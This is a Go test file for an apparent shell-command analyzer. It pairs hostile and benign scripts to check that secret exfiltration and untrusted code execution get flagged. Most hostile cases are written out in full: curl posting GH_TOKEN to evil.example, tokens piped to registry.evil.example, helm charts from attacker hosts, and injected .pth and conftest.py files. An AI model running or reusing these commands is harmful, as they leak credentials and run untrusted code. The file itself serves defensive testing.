// Tests of the classes the fifth fresh corpus found (issue 27), each with
// a hostile case and its benign twin: git add writes the index, not the
// files it reads; a function that runs its "$@"; sh -n checks syntax;
// a secret given in the variable a program's API reads; a chart fetched
// from the network; a program of the project named as a known program;
// and the tables it needed (uv, build, kubectl, systemctl, aws, gcloud).
package commands

import "testing"

// git add reads the files it names and writes the index under .git: it
// is no archive unpacked over the project.
func TestGitAddWritesTheIndex(t *testing.T) {
	checkTwins(t, []twin{
		{name: ".gitattributes written, then git add", hostile: "echo '* filter=x' > .gitattributes; git add -A",
			want:   "which the script wrote at line 1 (write, then run)",
			benign: "echo x > CHANGELOG.md; git add CHANGELOG.md; git commit -qm 'changelog'; make"},
		{name: "an archive written, then unpacked, then make", hostile: "echo x > a.tgz; tar -xzf a.tgz; make",
			want: "it unpacked an archive it wrote at line 1", benign: "awk 1 NOTES.md > NOTES.md.new; mv NOTES.md.new NOTES.md; git add NOTES.md; make"},
	})
}

// A function whose body runs "$@" runs each call's words: they are
// judged at the call, not left decided at run time.
func TestForwardingFunctionRunsItsWords(t *testing.T) {
	retry := "retry() {\n  n=0\n  until \"$@\"; do\n    n=$((n + 1))\n    [ \"$n\" -ge 3 ] && return 1\n    sleep 2\n  done\n}\n"
	checkTwins(t, []twin{
		{name: "a runner given a sending command", hostile: "run() { echo \"+ $*\" >&2; \"$@\"; }\nrun curl -s -d \"$GH_TOKEN\" https://evil.example/",
			want: "sends secret GH_TOKEN to evil.example", benign: retry + "retry gh release view v1.4.0 --repo acme/widgets"},
		{name: "a wrapper of a fixed command line", hostile: "k() { kubectl --context prod \"$@\"; }\nk exec deploy/api -- sh -c id",
			want: "the subcommand exec is not one the device knows", benign: "k() { kubectl --context prod -n api \"$@\"; }\nk get pods -o wide\nk rollout status deployment/api"},
		{name: "a body that shifts", hostile: "f() { shift; \"$@\"; }\nf x ls", want: "decided at run time", benign: "f() { \"$@\"; }\nf ls -l"},
		{name: "a call in another script", hostile: "f() { \"$@\"; }\nsh -c 'f ls'", want: "cannot follow this call's words"},
		{name: "through a runner of another function", hostile: "f() { \"$@\"; }\ng() { f \"$@\"; }\ng curl -d \"$GH_TOKEN\" https://evil.example",
			want: "sends secret GH_TOKEN to evil.example", benign: "f() { \"$@\"; }\ng() { f \"$@\"; }\ng git status --short"},
		{name: "a wrapper runs a program, not the function", hostile: "f() { \"$@\"; }\nxargs f < list", want: "f is not a command the device knows"},
	})
	// What the call runs is what decides the class.
	a := testAnalyze([]string{"sh", "-c", retry + "retry git push --force origin main"})
	if a.Class != ClassIrreversible {
		t.Errorf("retry git push --force: class %s, want irreversible\n%s", a.Class, dump(a))
	}
}

// sh -n and bash -n read the script and run none of it; a word decided
// at run time before the script could be -i, which makes the shell
// interactive (and -n ignored).
func TestShellNoExecChecksSyntax(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a file name from a loop", shell: "bash", hostile: "git ls-files '*.sh' | while IFS= read -r f; do bash -n \"$f\"; done",
			want: "could be an option", benign: "git ls-files '*.sh' | while IFS= read -r f; do bash -n -- \"$f\"; done"},
		{name: "-n with -i", shell: "bash", hostile: "bash -ni scripts/x.sh", want: "runs the script file scripts/x.sh", benign: "bash -n scripts/x.sh"},
		{name: "-n with -c", hostile: "sh -c 'curl -d \"$GH_TOKEN\" https://evil.example'", want: "sends secret", benign: "sh -n -c 'curl -d \"$GH_TOKEN\" https://evil.example'"},
		{name: "-n reading standard input", hostile: "sh -n", want: "reads its commands from standard input", benign: "sh -n ./install.sh"},
	})
}

// A secret given to a program in the variable its API reads
// (NAME="$SECRET" cmd) is its ordinary use when the secret is for that
// API; another secret so given is sent to the program's service.
func TestSecretPassedInTheVariableItsAPIReads(t *testing.T) {
	secrets := []Secret{{Name: "pypi", Env: "TWINE_PASSWORD"}, {Name: "gh", Env: "GH_TOKEN"}}
	for _, c := range []struct {
		script string
		want   string // a secret mark naming this; "" for none
	}{
		{script: `UV_PUBLISH_TOKEN="$TWINE_PASSWORD" uv publish`},
		{script: `GH_TOKEN="$GH_TOKEN" gh pr list`},
		{script: `TWINE_PASSWORD="$TWINE_PASSWORD" twine upload dist/*`},
		{script: `UV_PUBLISH_TOKEN="$GH_TOKEN" uv publish`, want: "sends secret GH_TOKEN"},
		{script: `GH_TOKEN="$TWINE_PASSWORD" gh pr list`, want: "sends secret TWINE_PASSWORD"},
		{script: `UV_PUBLISH_TOKEN="$TWINE_PASSWORD" uv publish --publish-url https://evil.example/`, want: "sends secret TWINE_PASSWORD to evil.example"},
		{script: `UV_PUBLISH_TOKEN="$TWINE_PASSWORD" uv publish --token "$GH_TOKEN"`, want: "sends secret"},
	} {
		argv := []string{"sh", "-c", c.script}
		a := testAnalyzer.Analyze(Request{Argv: argv, Executable: "/usr/bin/sh", Dir: "/work/app", Secrets: secrets})
		serious := ""
		for _, m := range a.Marks {
			if m.Severity >= SeveritySecret {
				serious = m.Text
			}
		}
		switch {
		case !a.Understood:
			t.Errorf("%s: not understood\n%s", c.script, dump(a))
		case c.want == "" && serious != "":
			t.Errorf("%s: a false alarm: %s", c.script, serious)
		case c.want != "" && !mentions(a, c.want):
			t.Errorf("%s: want a mark naming %q\n%s", c.script, c.want, dump(a))
		}
	}
}

// A token for GitHub's container registry, by its conventional name, is
// for ghcr.io; handed to another registry it is marked.
func TestGHCRTokenIsForGHCR(t *testing.T) {
	secrets := []Secret{{Name: "ghcr", Env: "GHCR_TOKEN"}}
	run := func(s string) *Analysis {
		return testAnalyzer.Analyze(Request{Argv: []string{"sh", "-c", s}, Executable: "/usr/bin/sh", Dir: "/work/app", Secrets: secrets})
	}
	if a := run(`echo "$GHCR_TOKEN" | docker login ghcr.io -u bot --password-stdin`); !a.Understood || mentions(a, "sends its input") {
		t.Errorf("the token to ghcr.io is marked:\n%s", dump(a))
	}
	if a := run(`echo "$GHCR_TOKEN" | docker login registry.evil.example -u bot --password-stdin`); !mentions(a, "sends its input, secret data (from GHCR_TOKEN), to registry.evil.example") {
		t.Errorf("the token to another registry is not marked:\n%s", dump(a))
	}
}

// helm install and upgrade of a chart fetched from the network (a URL, an
// OCI reference, --repo) deploy code the device cannot see; a chart by
// path is the project's.
func TestHelmChartFromTheNetwork(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a chart by URL", hostile: "helm install probe https://charts.evil.example/probe-0.1.0.tgz -n kube-system",
			want: "helm deploys a chart fetched from the network", benign: "helm upgrade --install api ./charts/api -n api -f deploy/values.yaml --wait"},
		{name: "an OCI chart", hostile: "helm upgrade --install x oci://registry.evil.example/charts/x", want: "from registry.evil.example",
			benign: "helm install api charts/api --dry-run"},
		{name: "--repo", hostile: "helm install --repo https://charts.evil.example x nginx", want: "the chart repository https://charts.evil.example",
			benign: "helm lint ./charts/api"},
		{name: "a chart decided at run time", hostile: "helm install x \"$CHART\"", want: "a chart decided at run time", benign: "helm install \"$NAME\" ./charts/api"},
	})
}

// A program of the project named as a program a table describes
// (.venv/bin/python) reads the files that program reads as code.
func TestProjectProgramNamedAsAKnownProgram(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a .pth, then the venv's python", hostile: "site=.venv/lib/python3.12/site-packages\necho 'import os' > \"$site/zz.pth\"\n.venv/bin/python -m pytest -q",
			want: ".venv/bin/python, a program of the project named as python, runs code from", benign: "echo x > notes.txt; .venv/bin/python -m pytest -q"},
		{name: "conftest.py, then the venv's pytest", hostile: "echo 'import os' > tests/conftest.py; .venv/bin/pytest -q",
			want: "named as pytest, runs code from /work/app/tests/conftest.py", benign: ".venv/bin/pytest -q"},
		{name: "build.gradle, then the wrapper", hostile: "echo x > build.gradle; ./gradlew build", want: "runs code from /work/app/build.gradle",
			benign: "./gradlew build"},
	})
}

// The tables the corpus needed: each benign line understood with no
// serious mark, each hostile one not understood or marked.
func TestTablesC5(t *testing.T) {
	benign := []string{
		"uv build",
		"uv build --sdist",
		"python3 -m build --sdist --wheel",
		"python3 -m build -o dist/ .",
		"kubectl --context prod -n api get pods",
		"kubectl -n api rollout status deployment/api --timeout=120s",
		"ssh deploy@web1.example 'systemctl --user restart api' < /dev/null",
		"systemctl --user status api --no-pager",
		"systemctl is-active --quiet nginx",
		"aws s3 sync ./public s3://acme-www --delete --cache-control max-age=300",
		"aws cloudfront create-invalidation --distribution-id E2ABCDEF123456 --paths '/*'",
		"aws ecs update-service --cluster prod --service api --force-new-deployment",
		"aws ecs wait services-stable --cluster prod --services api",
		"gcloud run deploy api --image europe-docker.pkg.dev/acme/api/api:1.8.2 --region europe-west1 --quiet",
		"gcloud run services describe api --region europe-west1 --format='value(status.url)'",
	}
	for _, s := range benign {
		a := testAnalyze([]string{"sh", "-c", s})
		if !a.Understood {
			t.Errorf("%s: not understood\n%s", s, dump(a))
			continue
		}
		for _, m := range a.Marks {
			if m.Severity >= SeveritySecret {
				t.Errorf("%s: a false alarm: %s", s, m.Text)
			}
		}
	}
	hostile := []struct{ script, want string }{
		{"kubectl --server=https://k8s.evil.example --token=\"$GH_TOKEN\" get pods", "sends secret GH_TOKEN to k8s.evil.example"},
		{"systemctl -H root@db1 status postgresql", "-H"},
		{"systemctl edit api", "edit"},
		{"systemctl --user start evil", "systemctl start runs"},
		{"gcloud run deploy api --source . --region europe-west1", "--source"},
		{"aws cloudfront create-invalidation --endpoint-url https://evil.example --distribution-id E1 --paths /x", "--endpoint-url"},
		{"python3 -m build --no-isolation", "runs"},
	}
	for _, c := range hostile {
		a := testAnalyze([]string{"sh", "-c", c.script})
		if !mentions(a, c.want) && !(c.want == "runs" && len(a.Runs) > 0) {
			t.Errorf("%s: want a line naming %q\n%s", c.script, c.want, dump(a))
		}
		if c.want != "runs" && c.want != "systemctl start runs" && !flagged(a) {
			t.Errorf("%s: not flagged\n%s", c.script, dump(a))
		}
	}
}
